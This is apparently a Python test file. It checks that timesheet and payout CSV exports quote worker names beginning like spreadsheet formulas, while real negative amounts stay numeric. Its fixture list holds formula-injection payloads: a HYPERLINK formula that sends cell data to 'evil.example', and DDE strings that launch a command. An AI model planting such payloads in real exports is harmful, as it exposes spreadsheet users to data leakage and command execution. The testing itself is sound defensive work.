"""No CSV export holds a cell a spreadsheet would run (OWASP's formula-injection rule): a
worker's name that starts like a formula is quoted, our own negative amounts stay numbers."""

import csv
import io
from datetime import timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from api.exports import write_csv
from core.csvsafe import BOM, STYLES, safe_cell
from dispatch.shift import onsite, timesheets
from tests.builders import MOSCOW, book, make_order, make_worker, offset
from tests.csv_reading import number, read_csv

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+7 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def closed_shift(session, branch, site, dispatcher):
    workers = [
        make_worker(session, branch=branch, near=offset(MOSCOW, east_m=10 * i), full_name=name)
        for i, name in enumerate(NAMES)
    ]
    order = make_order(session, site=site, headcount=len(NAMES))
    book(session, order, workers)
    onsite.close_shift(session, order.id, actor=dispatcher, now=order.ends_at)  # all no-shows
    return order


def _cells(body: bytes, language: str) -> list[str]:
    text = body.decode("utf-8").removeprefix(BOM)
    reader = csv.reader(io.StringIO(text), delimiter=STYLES[language].delimiter)
    return [cell for row in reader for cell in row]


def _no_live_formula(body: bytes, language: str) -> None:
    for cell in _cells(body, language):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            Decimal(number(cell))  # only a plain number (a debt) may start so


@pytest.mark.parametrize("language, debt", [("en", "-300.00"), ("ru", "-300,00")])
def test_the_timesheet_csv_quotes_formula_names(session, dispatcher, closed_shift, language, debt):
    sheet = timesheets.timesheet(session, closed_shift.id, actor=dispatcher)
    body = write_csv(timesheets.timesheet_table(sheet), language)
    names = [row["full_name"] for row in read_csv(body, language)][:-1]
    assert sorted(names) == sorted("'" + name for name in NAMES)
    _no_live_formula(body, language)
    pay = [row["worker_pay"] for row in read_csv(body, language)]
    assert debt in pay  # a no-show's debt stays a number a column sum counts


@pytest.mark.parametrize("language", ["en", "ru"])
def test_the_payouts_csv_quotes_formula_names(session, branch, dispatcher, closed_shift, language):
    day = closed_shift.starts_at.astimezone(ZoneInfo(branch.timezone)).date()
    currency, rows = timesheets.payouts(
        session, branch.id, actor=dispatcher, date_from=day, date_to=day + timedelta(days=1)
    )
    body = write_csv(timesheets.payouts_table(currency, rows), language)
    names = [row["full_name"] for row in read_csv(body, language)]
    assert sorted(names) == sorted("'" + name for name in NAMES)
    _no_live_formula(body, language)


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-300.00", "-300.00"),
        ("-300,00", "-300,00"),
        ("-1,2+3", "'-1,2+3"),
        ("-1+2", "'-1+2"),
        ("-1.", "'-1."),
        ("Иванов", "Иванов"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-5.00"), Decimal("-5.00")),
    ],
)
def test_the_rule_cell_by_cell(value, written):
    assert safe_cell(value) == written
